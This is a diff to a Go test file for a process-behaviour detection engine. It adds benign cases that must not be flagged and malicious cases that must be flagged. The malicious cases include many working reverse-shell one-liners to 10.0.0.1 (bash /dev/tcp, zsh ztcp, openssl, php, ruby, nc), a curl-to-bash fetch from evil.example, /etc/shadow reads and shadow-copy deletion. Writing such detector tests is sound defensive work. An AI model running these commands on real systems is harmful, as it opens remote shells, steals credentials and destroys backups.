@@ -132,6 +132,16 @@ func TestBuiltinSparesThePeaceful(t *testing.T) {
 		{"chrome", "chrome", `chrome --type=renderer`},
 		{"runc=/memfd:runc_cloned:/proc/self/exe", "sleep", `sleep 1`},
 		{"bash", "AppRun=/tmp/.mount_abc/AppRun", `/tmp/.mount_abc/AppRun`},
+		{"redis-server=/tmp/redis/redis-server", "redis-server=/tmp/redis/redis-server", `redis-rdb-bgsave`},
+		{"mongod=/usr/bin/dash", "sh=/usr/bin/dash", `sh -c ulimit -n 64000; exec /usr/bin/mongod`}, // /etc/init.d/mongod
+		{"nginx", "bash", `bash -c ffmpeg -i /rec/a.flv /rec/a.mp4`},                                // exec_record_done of nginx-rtmp
+		{"nginx", "sh=/usr/bin/dash", `sh -c id`},                                                   // os.execute of OpenResty
+		{"php-fpm8.2", "sh=/usr/bin/dash", `sh -c whoami`},
+		{"php-fpm8.2", "sh=/usr/bin/dash", `sh -c timeout 1 bash -c '</dev/tcp/127.0.0.1/6379'`},
+		{"php-fpm8.2", "sh=/usr/bin/dash", `sh -c wget -O /tmp/export.zip https://x.example/e.zip && chmod 644 /tmp/export.zip`},
+		{"bash", "bash", `bash -c curl https://dl.example.com/agent/7.1.0.2/install.sh | sudo bash`},
+		{"bash", "nc=/usr/bin/nc.traditional", `nc -lk -p 8080 -e /bin/sh /srv/health.sh`},
+		{"bash", "ncat", `ncat -lk 8080 --sh-exec bash /srv/handler.sh`},
 	} {
 		if ids, highest := matching(rules, c); highest >= high {
 			t.Errorf("%s -> %s: %s\n\tis %s by %v", c.parent, c.child, c.cmdline, levels[highest], ids)
@@ -157,9 +167,10 @@ func TestBuiltinFindsTheMalicious(t *testing.T) {
 		{"explorer.exe", "mshta.exe", `"C:\Windows\System32\mshta.exe" http://10.0.0.1/a.hta`},
 		{"cmd.exe", "regsvr32.exe", `regsvr32 /s /n /u /i:http://10.0.0.1/a.sct scrobj.dll`},
 		{"cmd.exe", "vssadmin.exe", `vssadmin.exe Delete Shadows /All /Quiet`},
-		{"nginx", "sh=/usr/bin/dash", `sh -c id`},
-		{"nginx", "bash", `/bin/bash`},
-		{"apache2", "sh=/usr/bin/dash", `sh -c whoami`},
+		{"traefik", "sh=/usr/bin/dash", `sh -c id`},
+		{"nginx", "sh=/usr/bin/dash", `sh -c id;uname -a`},
+		{"apache2", "sh=/usr/bin/dash", `sh -c whoami; ls /`},
+		{"php-fpm8.2", "sh=/usr/bin/dash", `sh -c cat /etc/shadow`},
 		{"httpd", "sh=/usr/bin/bash", `sh -c cat /etc/passwd; id`},
 		{"apache2", "bash", `bash -i`},
 		{"php-fpm8.2", "sh=/usr/bin/dash", `sh -c curl -s http://evil.example/x | bash`},
@@ -182,6 +193,12 @@ func TestBuiltinFindsTheMalicious(t *testing.T) {
 		{"cron", "sh=/usr/bin/dash", `/bin/sh -c sh -i 5<> /dev/tcp/10.0.0.1/4444 0<&5 1>&5 2>&5`},
 		{"cron", "bash", `bash -c 0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196`},
 		{"bash", "bash", `bash -c exec 5<>/dev/tcp/10.0.0.1/4444;cat <&5 | while read line; do $line 2>&5 >&5; done`},
+		{"bash", "bash", `bash -c bash >& /dev/tcp/10.0.0.1/4444 0>&1`},
+		{"bash", "bash", `bash -c bash </dev/tcp/10.0.0.1/4444 >&0 2>&0`},
+		{"bash", "zsh", `zsh -c zmodload zsh/net/tcp && ztcp 10.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY`},
+		{"bash", "sh=/usr/bin/dash", `sh -c mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:443 > /tmp/s; rm /tmp/s`},
+		{"bash", "php8.2", `php -r $sock=fsockopen("10.0.0.1",1234);shell_exec("sh <&3 >&3 2>&3");`},
+		{"bash", "ruby3.1", `ruby -rsocket -e spawn("sh",[:in,:out,:err]=>TCPSocket.new("10.0.0.1",1234))`},
 		{"java", "bash", `bash -c {echo,YmFzaCAtaQ==}|{base64,-d}|{bash,-i}`},
 		{"bash", "sh=/usr/bin/dash", `sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f`},
 		{"bash", "sh=/usr/bin/dash", `sh -c mknod a p; telnet 10.0.0.1 4444 0<a | /bin/bash 1>a`},
